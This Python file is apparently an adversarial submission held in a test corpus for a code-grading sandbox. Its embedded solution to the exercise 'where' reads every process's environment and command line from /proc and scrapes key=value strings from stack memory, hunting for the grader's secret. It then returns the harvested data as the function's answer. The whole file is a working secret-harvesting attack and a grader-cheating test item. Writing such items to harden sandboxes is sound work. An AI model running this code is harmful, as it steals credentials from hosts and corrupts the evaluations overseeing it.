"""Reads every environment, command line and stack of the box for a secret of the grading process."""

from corpus import answering

EXERCISE = "where"
submission = answering(
    EXERCISE,
    """
import ctypes
import glob
import os

FOUND = [repr(dict(os.environ))]
for file in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    try:
        FOUND.append(repr(open(file, "rb").read()))
    except OSError:
        pass
for line in open("/proc/self/maps"):
    if "[stack]" in line:
        start, end = (int(part, 16) for part in line.split()[0].split("-"))
        try:
            with open("/proc/self/mem", "rb") as memory:
                memory.seek(start)
                FOUND.append(repr([part for part in memory.read(end - start).split(bytes(1)) if b"=" in part]))
        except OSError:
            stack = ctypes.string_at(start, end - start)
            FOUND.append(repr([part for part in stack.split(bytes(1)) if b"=" in part]))
print(FOUND)


def where(tensor):
    return str(FOUND)[-8000:]
""",
)
